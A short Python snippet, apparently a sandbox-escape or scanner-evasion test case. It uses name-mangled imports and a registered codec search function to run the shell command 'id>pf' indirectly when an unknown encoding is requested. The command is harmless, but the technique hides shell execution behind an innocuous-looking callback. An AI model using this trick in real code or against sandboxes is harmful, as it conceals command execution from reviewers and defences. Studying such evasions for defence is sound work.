import codecs as _C__codecs, os as _C__os

class _C:

    def go(self):
        __codecs.register(lambda name: __os.system('id>pf') and None)
        try:
            ''.encode('nosuch')
        except LookupError:
            pass
_C().go()
